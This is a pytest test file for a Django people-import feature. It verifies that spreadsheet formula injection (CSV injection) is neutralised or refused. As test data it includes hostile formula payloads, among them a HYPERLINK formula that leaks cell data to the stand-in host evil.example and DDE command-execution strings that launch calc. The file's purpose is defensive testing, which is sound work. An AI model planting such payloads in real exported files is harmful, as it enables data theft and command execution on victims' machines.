"""Spreadsheet formula injection (OWASP "CSV Injection") in the people import (apps/users/importing.py)."""

import io

import pytest
import tablib
from django.core.management import CommandError, call_command

from apps.users.importing import import_people
from apps.users.models import User
from common.spreadsheet import is_formula, neutralise
from tests.institution.factories import InstitutionFactory

pytestmark = pytest.mark.django_db
HEADER = ("student_document_number,student_first_name,student_last_name,student_email,"
          "guardian1_document_number,guardian1_first_name,guardian1_last_name,guardian1_relationship,guardian1_phone")


def dataset(*rows: str) -> tablib.Dataset:
    return tablib.Dataset().load("\n".join([HEADER, *rows]) + "\n", format="csv")


@pytest.mark.parametrize("text", ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=cmd", "\r=cmd"])
def test_every_owasp_trigger_character_is_a_formula_and_is_prefixed_with_a_quote(text):
    assert is_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["María", "O'Brien", "Ana-Lucía", 42, -5, None, ""])
def test_ordinary_values_and_numbers_are_left_alone(value):
    assert neutralise(value) == value


def test_a_formula_in_a_name_is_stored_neutralised():
    inst = InstitutionFactory()
    data = dataset('71234567,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",@SUM(1+1),,'
                   "40111222,-2+3+cmd,Mamani,MOTHER,")

    report = import_people(dataset=data, institution_id=inst.pk)

    assert report.ok, report.errors
    student = User.objects.get(document_number="71234567")
    assert student.first_name == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    assert student.last_name == "'@SUM(1+1)"
    assert User.objects.get(document_number="40111222").first_name == "'-2+3+cmd"


def test_a_name_behind_a_tab_or_carriage_return_is_neutralised_too():
    inst = InstitutionFactory()
    data = tablib.Dataset(headers=["student_document_number", "student_first_name", "student_last_name"])
    data.append(["71234567", "\t=cmd|' /C calc'!A0", "\r+1"])

    report = import_people(dataset=data, institution_id=inst.pk)

    assert report.ok, report.errors
    student = User.objects.get(document_number="71234567")
    assert (student.first_name, student.last_name) == ("'=cmd|' /C calc'!A0", "'+1")


@pytest.mark.parametrize(("column", "cell"), [
    ("student_document_number", "=71234567"),
    ("student_email", "=1+1@evil.example"),
    ("guardian1_relationship", "@MOTHER"),
    ("guardian1_document_number", "-40111222"),
])
def test_a_formula_where_it_cannot_be_a_valid_value_refuses_the_row_naming_the_column(column, cell):
    inst = InstitutionFactory()
    values = {"student_document_number": "71234567", "student_first_name": "Valeria", "student_last_name": "Quispe",
              "student_email": "", "guardian1_document_number": "40111222", "guardian1_first_name": "Rosa",
              "guardian1_last_name": "Mamani", "guardian1_relationship": "MOTHER", "guardian1_phone": ""}
    values[column] = cell
    data = tablib.Dataset(headers=list(values))
    data.append(list(values.values()))

    report = import_people(dataset=data, institution_id=inst.pk)

    assert not report.ok and not User.objects.exists()
    assert [(e.row, e.field) for e in report.errors] == [(2, column)]
    assert "formula" in report.errors[0].message


def test_an_e164_phone_starting_with_plus_is_kept_as_is():
    inst = InstitutionFactory()
    report = import_people(dataset=dataset("71234567,Valeria,Quispe,,40111222,Rosa,Mamani,MOTHER,+51987654321"),
                           institution_id=inst.pk)

    assert report.ok, report.errors
    assert User.objects.get(document_number="40111222").phone == "+51987654321"


def test_a_formula_in_a_phone_is_refused_by_the_e164_check():
    inst = InstitutionFactory()
    report = import_people(dataset=dataset('71234567,Valeria,Quispe,,40111222,Rosa,Mamani,MOTHER,"+1+cmd|\' /C calc\'!A0"'),
                           institution_id=inst.pk)

    assert [(e.row, e.field) for e in report.errors] == [(2, "guardian1_phone")]
    assert not User.objects.exists()


def test_the_command_reports_a_formula_row_and_imports_nothing(tmp_path):
    inst = InstitutionFactory()
    (tmp_path / "people.csv").write_text(HEADER + "\n=1+1,Valeria,Quispe,,,,,,\n")
    err = io.StringIO()

    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_people", str(tmp_path / "people.csv"), "--institution", str(inst.pk), stderr=err)

    assert err.getvalue().startswith("row 2: student_document_number: ")
    assert not User.objects.exists()
